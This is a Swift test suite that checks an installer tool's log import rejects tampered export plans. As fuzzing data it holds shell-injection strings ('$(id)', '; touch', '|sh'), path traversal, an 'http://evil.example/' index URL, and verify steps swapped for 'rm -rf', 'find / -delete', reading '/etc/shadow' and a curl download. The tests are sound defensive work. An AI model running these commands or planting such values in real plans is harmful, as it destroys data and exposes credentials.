import Foundation
import InstallModel
import Testing

/// `evlog import` is the one boundary for logs: an export whose plan names a package, an installed file, a
/// verify command or a PATH entry no recipe could is refused there (no log is created, so no later uninstall
/// or upgrade plan is built from it), and a line past the bound is refused while it is read, leaving nothing.
@Suite("hostile imports")
struct HostileImportTests {
    /// A simulated install's export, one per installing method: apt, pipx, cargo, go, a release.
    static let tools = ["jq", "black", "cargo-audit", "gopls", "lazygit"]

    private static func export(_ tool: String, home: EvlogHome) async throws -> String {
        let installed = try await Evlog.run(["install", "--simulate=synthetic", "--yes", tool, "--home", home.path, "--no-color"])
        #expect(installed.exitCode == 0, "\(installed.allOutput)")
        let exported = try await Evlog.run(["export", "latest", "--jsonl", "--home", home.path])
        return exported.stdout
    }

    /// A value of the recorded plan made hostile: shell text, an option, a path out of place, a second line.
    private static func hostile(_ value: String, _ random: inout SplitMix64) -> String {
        let insertions = ["; touch /tmp/evlog-pwned", "$(id)", "`id`", "\n", " ", "/../../etc/", "|sh", "&", "'", "\""]
        if Int.random(in: 0..<4, using: &random) == 0 { return "--index-url=http://evil.example/" + value }
        let characters = Array(value)
        let cut = Int.random(in: 0...characters.count, using: &random)
        return String(characters[..<cut]) + insertions.randomElement(using: &random)! + String(characters[cut...])
    }

    /// Every string under the plan's steps' action parameters that names something a lifecycle plan would use.
    private static let recordedFields: Set<String> = ["packages", "package", "installName", "binary", "pathEntries", "keyringPath", "sourcePath", "name"]

    private static func poison(_ plan: inout [String: Any], _ random: inout SplitMix64) -> Bool {
        guard var steps = plan["steps"] as? [[String: Any]] else { return false }
        var candidates: [(step: Int, field: String)] = []
        for (index, step) in steps.enumerated() {
            guard let parameters = (step["action"] as? [String: Any])?["parameters"] as? [String: Any] else { continue }
            for field in parameters.keys where recordedFields.contains(field) { candidates.append((index, field)) }
        }
        guard let (index, field) = candidates.randomElement(using: &random) else { return false }
        var action = steps[index]["action"] as! [String: Any]
        var parameters = action["parameters"] as! [String: Any]
        if var list = parameters[field] as? [String], !list.isEmpty {
            let at = Int.random(in: 0..<list.count, using: &random)
            list[at] = hostile(list[at], &random)
            parameters[field] = list
        } else if let text = parameters[field] as? String {
            parameters[field] = hostile(text, &random)
        } else {
            return false
        }
        action["parameters"] = parameters
        steps[index]["action"] = action
        plan["steps"] = steps
        return true
    }

    /// `lines` (an export) with the plan of its first line changed by `change`, written to `file` and imported
    /// into `target`.
    private static func importEdited(
        _ lines: [String], file: String, into target: EvlogHome, _ change: (inout [String: Any]) throws -> Void
    ) async throws -> ChildOutcome {
        var lines = lines
        var first = try #require(JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
        var plan = try #require(first["plan"] as? [String: Any])
        try change(&plan)
        first["plan"] = plan
        lines[0] = String(decoding: try JSONSerialization.data(withJSONObject: first), as: UTF8.self)
        try Data(lines.joined(separator: "\n").utf8).write(to: URL(fileURLWithPath: file))
        return try await Evlog.run(["import", file, "--home", target.path, "--no-color"])
    }

    @Test(arguments: tools) func anExportNamingAHostileValueIsRefusedAtImport(tool: String) async throws {
        let source = try EvlogHome.make()
        defer { source.remove() }
        let target = try EvlogHome.make()
        defer { target.remove() }
        let lines = try await Self.export(tool, home: source).split(separator: "\n").map(String.init)
        for seed in UInt64(1)...10 {
            var random = SplitMix64(seed: seed &* 7919 &+ UInt64(tool.utf8.count))
            let imported = try await Self.importEdited(lines, file: source.path + "/hostile.jsonl", into: target) { plan in
                try #require(Self.poison(&plan, &random), "\(tool) seed \(seed): nothing to poison")
            }
            #expect(imported.exitCode == 2 && ChildOutcome.lines(imported.stderr).count == 1, "\(tool) seed \(seed): \(imported.allOutput)")
            #expect(imported.stderr.contains("hostile.jsonl:1: step "), "\(tool) seed \(seed): \(imported.stderr)")
            #expect(target.planIDs.isEmpty, "\(tool) seed \(seed): a refused import left \(target.planIDs)")
        }
    }

    @Test func aLineOverTheBoundIsRefusedWhileReadAndLeavesNothing() async throws {
        let home = try EvlogHome.make()
        defer { home.remove() }
        let header = try await Self.export("jq", home: home).split(separator: "\n")[0]
        let file = home.path + "/long.jsonl"
        #expect(FileManager.default.createFile(atPath: file, contents: Data((header + "\n").utf8)))
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: file))
        try handle.seekToEnd()
        let block = Data(repeating: UInt8(ascii: "a"), count: 1 << 20)
        for _ in 0..<80 { try handle.write(contentsOf: block) }
        try handle.close()

        let target = try EvlogHome.make()
        defer { target.remove() }
        let imported = try await Evlog.run(["import", file, "--home", target.path, "--no-color"])
        #expect(imported.exitCode == 2 && ChildOutcome.lines(imported.stderr).count == 1, "\(imported.allOutput)")
        #expect(imported.stderr.contains("long.jsonl:2: line over the"), "\(imported.stderr)")
        #expect((try? FileManager.default.contentsOfDirectory(atPath: target.path + "/plans")) ?? [] == [], "nothing is left behind")
    }

    @Test func aBadLineAfterTheFirstLeavesNoLogBehind() async throws {
        let home = try EvlogHome.make()
        defer { home.remove() }
        let file = home.path + "/cut.jsonl"
        try Data((try await Self.export("jq", home: home) + "{\"seq\":\n").utf8).write(to: URL(fileURLWithPath: file))
        let target = try EvlogHome.make()
        defer { target.remove() }
        let imported = try await Evlog.run(["import", file, "--home", target.path, "--no-color"])
        #expect(imported.exitCode == 2 && imported.stderr.contains("not a JSON event"), "\(imported.allOutput)")
        #expect((try? FileManager.default.contentsOfDirectory(atPath: target.path + "/plans")) ?? [] == [], "nothing is left behind")
    }

    /// trust13 #8: `import` makes the check `resume FILE --key` makes (`ForeignPlanPolicy.stepProblem`), so a verify
    /// step that runs any program with any arguments is refused at import as at resume; the catalog's own verify of
    /// the tool still imports. The verify's program and arguments are drawn from a seed.
    @Test(arguments: [UInt64(1), 2, 3]) func aVerifyStepResumeRefusesIsRefusedAtImport(seed: UInt64) async throws {
        let source = try EvlogHome.make()
        defer { source.remove() }
        let target = try EvlogHome.make()
        defer { target.remove() }
        let lines = try await Self.export("jq", home: source).split(separator: "\n").map(String.init)
        var random = SplitMix64(seed: seed)
        let programs = ["rm", "cp", "find", "curl", "jq", "/usr/bin/tee", "chmod", "dd"]
        let arguments = [["-rf", "/tmp/evlog-victim"], ["/etc/shadow", "/tmp/x"], ["/", "-delete"], ["-o", "/tmp/x", "http://evil.example/"],
                         ["--version", "/tmp/x"], ["-n", "."], ["of=/tmp/x"], ["--from-file", "/tmp/x", "--version"]]
        for _ in 0..<4 {
            let program = programs[Int(random.next() % UInt64(programs.count))]
            let argv = arguments[Int(random.next() % UInt64(arguments.count))]
            let imported = try await Self.importEdited(lines, file: source.path + "/verify.jsonl", into: target) { plan in
                var steps = try #require(plan["steps"] as? [[String: Any]])
                let at = try #require(steps.firstIndex { ($0["id"] as? String)?.hasPrefix("verify-") == true })
                var action = try #require(steps[at]["action"] as? [String: Any])
                var parameters = try #require(action["parameters"] as? [String: Any])
                parameters["binary"] = program
                parameters["arguments"] = argv
                action["parameters"] = parameters
                steps[at]["action"] = action
                plan["steps"] = steps
            }
            #expect(imported.exitCode == 2 && ChildOutcome.lines(imported.stderr).count == 1, "\(program) \(argv): \(imported.allOutput)")
            #expect(imported.stderr.contains("verify"), "\(imported.stderr)")
            #expect(target.planIDs.isEmpty, "\(program) \(argv): a refused import left \(target.planIDs)")
        }
        let imported = try await Self.importEdited(lines, file: source.path + "/own.jsonl", into: target) { _ in }
        #expect(imported.exitCode == 0, "the catalog's own verify: \(imported.allOutput)")
    }

    /// trust16 #6: a cleanup of files that are not the plan's tools' and a service no recipe of them names are refused
    /// at import as `resume FILE --key` refuses them (`ForeignPlanPolicy.planProblem`, one check for both).
    @Test(arguments: [
        #"{"kind":"cleanup","parameters":{"paths":["~/.local/bin/gh","/usr/local/bin/terraform"]}}"#,
        #"{"kind":"service","parameters":{"action":"disable","name":"ssh"}}"#,
    ])
    func aStepReachingBeyondThePlansToolsIsRefusedAtImport(action: String) async throws {
        let source = try EvlogHome.make()
        defer { source.remove() }
        let target = try EvlogHome.make()
        defer { target.remove() }
        let lines = try await Self.export("jq", home: source).split(separator: "\n").map(String.init)
        let imported = try await Self.importEdited(lines, file: source.path + "/scope.jsonl", into: target) { plan in
            var steps = try #require(plan["steps"] as? [[String: Any]])
            let at = try #require(steps.firstIndex { ($0["id"] as? String)?.hasPrefix("verify-") == true })
            steps[at]["action"] = try JSONSerialization.jsonObject(with: Data(action.utf8))
            plan["steps"] = steps
        }
        #expect(imported.exitCode == 2 && ChildOutcome.lines(imported.stderr).count == 1, "\(imported.allOutput)")
        #expect(imported.stderr.contains("this plan's tools"), "\(imported.stderr)")
        #expect(target.planIDs.isEmpty, "a refused import left \(target.planIDs)")
    }
}
